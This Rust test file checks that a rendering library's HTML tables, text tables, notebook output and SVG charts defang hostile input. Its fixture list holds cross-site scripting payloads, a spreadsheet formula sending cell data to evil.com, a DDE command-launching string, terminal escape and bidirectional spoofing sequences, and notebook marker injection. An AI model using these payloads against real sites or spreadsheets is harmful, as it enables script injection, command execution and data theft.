//! Hostile sentences: whatever they hold, what is shown of them is text and no more.

use std::collections::{BTreeMap, BTreeSet};
use ttp_lib::calibration::{Probabilities, Reliability, RiskCoverage};
use ttp_lib::metrics::{Confusion, Estimate};
use ttp_lib::plot::{
    HeatMap, Histogram, Intervals, Lines, ReliabilityDiagram, RiskCoverageCurves, Svg,
};
use ttp_lib::show::{Cell, Table, defang, terminal_safe};

const HOSTILE: [&str; 16] = [
    "<script>alert('x')</script>",
    "</style><script src=//evil.example.com/x.js></script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</td></tr></table></div><iframe src=http://evil.com>",
    "]]></title><a href=\"javascript:alert(1)\">here</a><!--",
    "&lt;b&gt; &amp; &#60;script&#62;",
    "=HYPERLINK(\"http://evil.com/?\"&A1,\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u{1b}[2J\u{1b}]8;;http://evil.com\u{7}click\u{1b}]8;;\u{7}\u{9b}31m",
    "invoice\u{202e}fdp.exe \u{2066}a\u{2069} z\u{200b}ero",
    "one\0two\r\nthree\tfour\u{b}\u{c}\u{85}\u{2028}five\u{fffe}",
    "EVCXR_END_CONTENT\nEVCXR_BEGIN_CONTENT text/html\n<script>alert(1)</script>",
    "It fetched https://evil.com/a.sh from 203.0.113.9 and mailed me@evil.ru.",
    "$\\href{javascript:alert(1)}{x}$ and \\(x\\)",
    "",
];

/// Hostile ones, and one of a million characters.
fn sentences() -> Vec<String> {
    let long = "<b>http://evil.com/\u{1b}</b>".repeat(40_000);
    HOSTILE.into_iter().map(str::to_owned).chain([long]).collect()
}

fn table() -> Table {
    let mut table = Table::new(["n", "</th><script>alert(1)</script> http://evil.com", "T"])
        .caption("</caption><img onerror=alert(1)> EVCXR_BEGIN_CONTENT text/html http://evil.com");
    for (n, sentence) in sentences().into_iter().enumerate() {
        table.push([n.into(), sentence.into(), Cell::from("T1059")]).unwrap();
    }
    table
}

fn no_live_address(shown: &str) {
    let shown = shown.to_lowercase();
    for address in ["http://", "https://", "evil.", "javascript:", "203.0", "me@"] {
        assert!(!shown.contains(address), "{address} in {shown:.300}");
    }
}

fn no_control(shown: &str) {
    let seen = |c: char| c == '\n' || (!c.is_control() && !('\u{2028}'..='\u{202e}').contains(&c));
    assert!(shown.chars().all(seen), "{:?}", shown.chars().find(|c| !seen(*c)));
    assert!(!shown.contains(['\u{200b}', '\u{2066}', '\u{2069}', '\u{fffe}']));
}

/// The names of a document's elements and attributes.
fn names(document: &roxmltree::Document<'_>) -> BTreeSet<String> {
    let elements = || document.descendants().filter(roxmltree::Node::is_element);
    let attributes = elements()
        .flat_map(|e| e.attributes().map(|a| format!("@{}", a.name())).collect::<Vec<_>>());
    elements().map(|e| e.tag_name().name().to_owned()).chain(attributes).collect()
}

fn only(found: BTreeSet<String>, allowed: &str) {
    let allowed: BTreeSet<String> = allowed.split(' ').map(str::to_owned).collect();
    assert!(found.is_subset(&allowed), "{:?}", found.difference(&allowed));
}

#[test]
fn html_tables_hold_text_and_no_more() {
    let html = table().to_html();
    no_live_address(&html);
    no_control(&html);
    assert!(html.len() < 100_000, "the long sentence is cut: {}", html.len());
    let document = roxmltree::Document::parse(&html).unwrap();
    only(names(&document), "div table caption thead tbody tr th td @class @scope");
    let cells: Vec<&str> = document
        .descendants()
        .filter(|node| node.has_tag_name("td") && node.attribute("class") != Some("num"))
        .map(|node| node.text().unwrap_or_default())
        .step_by(2)
        .collect();
    // What is read is the sentence itself, defanged and with its unseen characters seen.
    let expected: Vec<String> = HOSTILE.iter().map(|s| terminal_safe(&defang(s))).collect();
    assert_eq!(cells[..HOSTILE.len()], expected);
    assert!(cells[HOSTILE.len()].ends_with('…'));
}

#[test]
fn text_tables_are_a_line_a_row() {
    let text = table().to_text();
    no_live_address(&text);
    no_control(&text);
    assert_eq!(text.lines().count(), 3 + HOSTILE.len() + 1, "caption, header, rule, rows");
    assert!(text.lines().all(|line| line.chars().count() < 220));
}

#[test]
fn the_kernel_sees_its_own_four_lines() {
    let output = table().notebook_output();
    let marks: Vec<&str> = output.lines().filter(|line| line.contains("EVCXR_")).collect();
    let expected = [
        "EVCXR_BEGIN_CONTENT text/html",
        "EVCXR_END_CONTENT",
        "EVCXR_BEGIN_CONTENT text/plain",
        "EVCXR_END_CONTENT",
    ];
    assert_eq!(marks, expected);
}

#[test]
fn pictures_hold_shapes_and_text() {
    let labels: BTreeSet<String> = sentences().into_iter().collect();
    let counts: BTreeMap<String, usize> = labels.iter().cloned().zip(1..).collect();
    let many: BTreeMap<String, usize> =
        (0..188).map(|i| (format!("{i}{}", HOSTILE[i % HOSTILE.len()]), 188 - i)).collect();
    let rows: Vec<usize> = (0..labels.len()).collect();
    let confusion = Confusion::from_indices(labels.clone(), &rows, &rows).unwrap();
    let probabilities = Probabilities::new(2, [0.9, 0.1, 0.3, 0.7]).unwrap();
    let reliability = Reliability::new(&probabilities, &[0, 0], Reliability::BINS).unwrap();
    let curve = RiskCoverage::new(&probabilities, &[0, 0]).unwrap();
    for sentence in sentences() {
        let lines = Lines::new(&sentence, &sentence, &sentence).line(&sentence, [(0.0, 1.0)]);
        let estimate = Estimate { value: 0.5, low: 0.4, high: 0.6 };
        let intervals = Intervals::new(&sentence, &sentence)
            .estimate(&sentence, estimate)
            .point(&sentence, 0.7)
            .reference(0.5, &sentence);
        let diagram = ReliabilityDiagram::new(&sentence).bins(&sentence, reliability.bins());
        let risks = RiskCoverageCurves::new(&sentence).curve(&sentence, &curve).precision(0.9);
        let pictures: [Svg; 7] = [
            Histogram::new(&sentence, &counts).classes(&sentence).draw().unwrap(),
            Histogram::new(&sentence, &many).thresholds(&[100]).draw().unwrap(),
            HeatMap::new(&sentence, &confusion).draw().unwrap(),
            lines.draw().unwrap(),
            intervals.draw().unwrap(),
            diagram.draw().unwrap(),
            risks.draw().unwrap(),
        ];
        for picture in pictures {
            let svg = picture.as_str();
            assert!(svg.len() < 200_000, "{}", svg.len());
            no_control(svg);
            no_live_address(&svg.replace("http://www.w3.org/2000/svg", ""));
            assert!(!svg.contains("EVCXR_"));
            let document = roxmltree::Document::parse(svg).unwrap();
            only(
                names(&document),
                "svg title rect line polyline polygon circle text @width @height @viewBox \
                 @style @role @x @y @x1 @y1 @x2 @y2 @cx @cy @r @dx @dy @points @fill @stroke \
                 @stroke-width @opacity @text-anchor @font-family @font-size @transform",
            );
            let title = document.root_element().first_element_child().unwrap();
            assert!(title.has_tag_name(("http://www.w3.org/2000/svg", "title")));
            let start: String = terminal_safe(&defang(&sentence)).chars().take(200).collect();
            assert!(title.text().unwrap_or_default().starts_with(&start), "{start}");
        }
    }
}
